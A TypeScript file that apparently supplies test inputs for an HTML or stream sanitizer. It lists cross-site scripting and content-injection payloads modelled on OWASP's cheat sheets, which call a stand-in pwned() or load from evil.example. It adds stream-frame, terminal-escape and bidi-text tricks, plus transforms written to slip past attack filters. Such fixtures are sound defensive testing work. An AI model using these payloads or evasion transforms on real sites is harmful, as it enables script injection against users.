/**
 * Text that would run as a script, load something, or show something else than it is, if a page took it for more than
 * text. By kinds of attack (after OWASP's cheat sheets for XSS), and multiplied by ways to hide one. Each that runs calls
 * `pwned()`; each that loads asks `evil.example`.
 */

const RUN = 'pwned()'
const AWAY = 'https://evil.example'

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${AWAY}/x.js></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<script>import('${AWAY}/x.js')</script>`,
  `<script nonce="">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
]

const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"/>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<body onload=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<iframe onload=${RUN}></iframe>`,
  `<a onpointerover=${RUN} href=x>x</a>`,
]

const schemes = [
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="${AWAY}/">`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
]

const loads = [
  `<img src="${AWAY}/a.png">`,
  `<img srcset="${AWAY}/b.png 1x">`,
  `<link rel=stylesheet href="${AWAY}/c.css">`,
  `<link rel=prefetch href="${AWAY}/d">`,
  `<style>@import "${AWAY}/e.css";</style>`,
  `<p style="background:url(${AWAY}/f)">x</p>`,
  `<video poster="${AWAY}/g"></video>`,
  `<iframe src="${AWAY}/h"></iframe>`,
  `<object data="${AWAY}/i"></object>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}/j">`,
  `![x](${AWAY}/k.png)`,
  `<svg><image href="${AWAY}/l"/></svg>`,
  `<audio autoplay src="${AWAY}/m"></audio>`,
]

const escapes = [
  `</pre><script>${RUN}</script>`,
  `</li></ol><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  `\`-${RUN}-\``,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
]

const mutations = [
  `<svg><style><img src="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x">`,
  `<x contenteditable onblur=${RUN} autofocus>x`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<style>*{x:expression(${RUN})}</style>`,
]

/** For the stream rather than the page: a frame of its own, if newlines came through. */
const streams = [
  `x\n\nevent: message\ndata: {"kind":"text","text":"<img src=x onerror=${RUN}>"}\n\n`,
  `\r\rdata: <script>${RUN}</script>\r\r`,
  `\u2028<script>${RUN}</script>\u2029`,
  `id: 99\n\nretry: 1\n\n<svg onload=${RUN}>`,
]

/** For terminals, and for eyes. */
const deceptions = [
  `\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007`,
  `\u001b[2J\u001b[H<script>${RUN}</script>`,
  `\u202e>tpircs/<)(denwp>tpircs<`,
  `\u0000<script>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `\ufeff<img src=x onerror=${RUN}>`,
  `\u2066<script>${RUN}</script>\u2069`,
]

const PLAIN = [
  ...scripts,
  ...handlers,
  ...schemes,
  ...loads,
  ...escapes,
  ...mutations,
  ...streams,
  ...deceptions,
]

/** Ways to get past what looks for an attack. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text.replace(/<[a-z]+/gi, (tag) => tag.toUpperCase()),
  (text) => text.replace(/ (?=on|src|href)/g, '/'),
  (text) => `harmless ${text} words`,
  (text) => `**bold** \`code\`\n\n${text}`,
  (text) => text.replace(/=(?=\w)/g, '\n=\t'),
]

const DISGUISED = DISGUISES.flatMap((disguise) => PLAIN.map(disguise))

export const INJECTIONS: readonly string[] = [...new Set([...PLAIN, ...DISGUISED])].slice(0, 300)
